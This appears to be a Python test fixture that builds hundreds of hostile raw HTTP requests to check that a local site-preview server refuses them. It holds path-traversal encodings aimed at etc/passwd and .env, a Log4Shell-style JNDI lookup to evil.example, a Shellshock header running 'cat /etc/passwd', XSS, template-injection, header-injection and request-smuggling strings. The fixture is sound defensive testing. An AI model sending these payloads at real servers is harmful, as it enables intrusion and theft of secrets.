"""Hostile requests as raw bytes: every way of asking for what is not there to be had.

>>> len(requests(8000)) >= 500
True
"""

from __future__ import annotations

from itertools import product

TARGETS = (
    *("secret.txt", "site/secret.txt", "etc/passwd", "recapgen.toml", "content/articles/a.md", ".env"),
    *("themes/programme/templates/article.html", ".recapgen/state", "content/.hidden", "outside/secret.txt"),
)
"""What an attacker would like to have; all but etc/passwd hold the canary."""

UPWARD = (
    *("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "%2E%2E%2F", "..\\", "..%5c", "%2e%2e%5c", "%252e%252e%252f", "..%252f"),
    *("..%c0%af", "%c0%ae%c0%ae/", "..%ef%bc%8f", "....//", "..;/", ".%2e/", "%2e./", "..%00/", "..%0d/", "..%u2215"),
    *("%uff0e%uff0e/", "..%e0%80%af", "..%2f%2f", "./../", "a/../../", "%2e%2e%2f%2e%2e/", "..%25%32%66", "..//"),
)
"""Spellings of `../`."""

OTHER = (
    *("//etc/passwd", "///etc/passwd", "/./secret.txt", "//secret.txt", "/%2fetc%2fpasswd", "/%5c%5cevil.example%5cx"),
    *("//evil.example/", "//evil.example/%2e%2e", "/\\evil.example", "/%5cevil.example/", "/%09/evil.example"),
    *("/topics//evil.example", "//topics", "//topics/", "/topics%2f..%2f..%2f", "/topics%00", "/topics%00.html"),
    *("/topics/%0d%0aX-Injected:%20yes", "/topics%0aX-Injected:yes", "/topics?x=%0d%0aX-Injected:%20yes"),
    *(
        "/topics;/x",
        "/topics%3f/",
        "/topics%23",
        "/topics/.",
        "/topics/./",
        "/topics/..",
        "/topics/%2e",
        "/file:///etc",
    ),
    *("/C:/Windows/win.ini", "/c%3a%5cwindows", "/CON", "/nul.txt", "/aux/", "/index.html::$DATA", "/INDEX.HTML"),
    *("/__recapgen/../secret.txt", "/__recapgen/%2e%2e/secret.txt", "/__recapgen//etc/passwd", "/__recapgen/run.py"),
    *("/__recapgen/client/reload.js", "/__recapgen/events", "/__recapgen/news", "/__recapgen/", "/__recapgen"),
    *(
        "/__recapgen/events?token=",
        "/__recapgen/events?token=x&token=y",
        "/__recapgen/news?token=%00&at=../../secret.txt",
    ),
    *("/%", "/%2", "/%zz", "/%%", "/%f", "/%ff%fe", "/%ed%a0%80", "/%c3%28", "/" + "%2e" * 500, "/" + "../" * 1000),
    *("/" + "a/" * 2000, "/" + "%61" * 1300, "/?" + "a" * 4000, "/" + "a" * 255 + "/", "/?", "/??", "/?#", "/#/../x"),
    *("/static/menu.pdf", "/static/../secret.txt", "/output/", "/output/index.html", "/.git/config", "/.recapgen/lock"),
    *("/.", "/..", "/...", "/.../", "/~root", "/~/", "/%7eroot/", "/link.txt", "/loop/loop/loop/", "/folder-link/x"),
    *("/wp-login.php", "/cgi-bin/../../etc/passwd", "/server-status", "/<script>alert(1)</script>", "/'\"><img src=x>"),
    *("/%3Cscript%3Ealert(1)%3C/script%3E", "/${jndi:ldap://evil.example/a}", "/{{7*7}}", "/%7B%7Bconfig%7D%7D"),
)
"""Single tricks."""

WHOLE = (
    *("http://evil.example/", "http://localhost/../secret.txt", "https://localhost/", "file:///etc/passwd", "*", ""),
    *("evil.example:443", "secret.txt", "..", "\\", "?", "#", "localhost", "ftp://x/", "HTTP://LOCALHOST/secret.txt"),
)
"""Targets that do not begin with a slash."""

METHODS = (
    *("get", "Get", "GETX", "G\tET", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PATCH", "MOVE", "COPY"),
    *("LOCK", "SEARCH", "PROPFIND", "MKCOL", "PRI", "A" * 30, "", "\x00", "É", "GET GET", "-", "G-T", "DEBUG", "TRACK"),
)

HEADERS = (
    *("Host: evil.example", "Host:", "Host: {h}:1", "Host: {h}\r\nHost: {h}", "Host: {h}\r\nhost: evil.example"),
    *("Host : {h}", " Host: {h}", "Host: {h}\r\n folded", "Host: {h}\r\nX-Forwarded-Host: evil.example\r\nHost: {h}"),
    *(
        "Host: {h}@evil.example",
        "Host: evil.example@{h}",
        "Host: {h}, {h}",
        "Host: {h}/",
        "Host: {h}#",
        "Host: {h}\x00",
    ),
    *("Host: {h}\nX-Injected: yes", "Host: {h}\rX-Injected: yes", "Host\x00: {h}", "Höst: {h}", "Host: \xff", "X: y"),
    *("Host: 127.0.0.1", "Host: localhost", "Host: 0:{p}", "Host: 127.1:{p}", "Host: 0x7f.1:{p}", "Host: [::1]"),
    *("Host: {h}\r\nOrigin: http://evil.example", "Host: {h}\r\nOrigin: null", "Host: {h}\r\nOrigin: http://{h}.evil"),
    *("Host: {h}\r\nContent-Length: 10", "Host: {h}\r\nContent-Length: -1", "Host: {h}\r\nContent-Length: 0, 5"),
    *("Host: {h}\r\nTransfer-Encoding: chunked", "Host: {h}\r\nTransfer-Encoding: identity\r\nContent-Length: 5"),
    *("Host: {h}\r\nSec-Fetch-Site: cross-site", "Host: {h}\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-Site: none"),
    *("Host: {h}\r\nSec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe", "Host: {h}:{p}"),
    *("Host: {h}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nOrigin: http://evil.example", "{h}", ": {h}", "="),
)
"""Heads that are refused, whatever is asked for. `{h}` is our own host with its port, `{p}` the port."""

ODD_HEADERS = (
    *("Range: bytes=-", "Range: bytes=0-99999999999999999999", "Range: bytes=5-1", "Range: bytes=0-0,-1,1-2"),
    *("Range: bytes=" + "0-0," * 500 + "0-0", "Range: bytes=-0", "Range: \xff", "Range: bytes=0x10-"),
    *("If-None-Match: *", "If-None-Match: " + '"a",' * 1000, "If-None-Match: W/", "If-Range: \xff", "If-Match: x"),
    *("Expect: 100-continue", "Connection: close, close", "Connection: keep-alive\r\nKeep-Alive: timeout=99999"),
    *("X-Forwarded-For: 127.0.0.1", "X-Original-URL: /secret.txt", "X-Rewrite-URL: /../secret.txt", "Accept: \t"),
    *(
        "Cookie: " + "a" * 8000,
        "User-Agent: () { :;}; cat /etc/passwd",
        "Referer: http://evil.example/",
        "A" * 300 + ": x",
    ),
)
"""Headers that change nothing or little; a page may be the answer."""

BROKEN = (
    *(b"", b"\r\n", b"\n", b"\r\n\r\n", b"\x00" * 100, b"GET", b"GET /", b"GET / HTTP/1.1", b"GET / HTTP/1.1\r\n"),
    *(b"GET / HTTP/9.9\r\n\r\n", b"GET / HTTP/1.1.1\r\n\r\n", b"GET / http/1.1\r\n\r\n", b"GET /  HTTP/1.1\r\n\r\n"),
    *(b"GET\t/\tHTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\n\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 20),
    *(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"SSH-2.0-OpenSSH_9\r\n",
        b"\xff" * 3000,
        b"A" * 20000,
        b"GET " + b"/" * 20000,
    ),
    *(b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 3000 + b"\r\n", b"GET / HTTP/1.1\r\n" + b"A" * 20000 + b"\r\n\r\n"),
    *(
        b"GET /\x00 HTTP/1.1\r\n\r\n",
        b"GET /\xe2\x80\xae HTTP/1.1\r\n\r\n",
        b"GET /\x7f HTTP/1.1\r\n\r\n",
        b"\r\n" * 5000,
    ),
)
"""What is hardly a request at all."""


def requests(port: int) -> list[bytes]:
    """All of them, for a server on a port; each is sent over a connection of its own."""
    host = f"127.0.0.1:{port}"
    good = f"Host: {host}"
    upward = [f"/{way * depth}{target}" for way, depth, target in product(UPWARD, (1, 4), TARGETS[:5])]
    inside = [f"/topics/{way * 2}{target}" for way, target in product(UPWARD, TARGETS[5:8])]
    plain = [f"/{target}" for target in TARGETS]
    found = [_head("GET", target, good) for target in (*upward, *inside, *plain, *OTHER, *WHOLE)]
    found += [_head(method, "/", good) for method in METHODS]
    found += [
        _head("GET", target, header.replace("{h}", host).replace("{p}", str(port)))
        for header, target in product(HEADERS, ("/", "/topics", "/__recapgen/events"))
    ]
    found += [_head("GET", target, f"{good}\r\n{odd}") for odd, target in product(ODD_HEADERS, ("/", "/menu.pdf"))]
    found += BROKEN
    return list(dict.fromkeys(found))


def _head(method: str, target: str, headers: str) -> bytes:
    return f"{method} {target} HTTP/1.1\r\n{headers}\r\n\r\n".encode("latin-1")
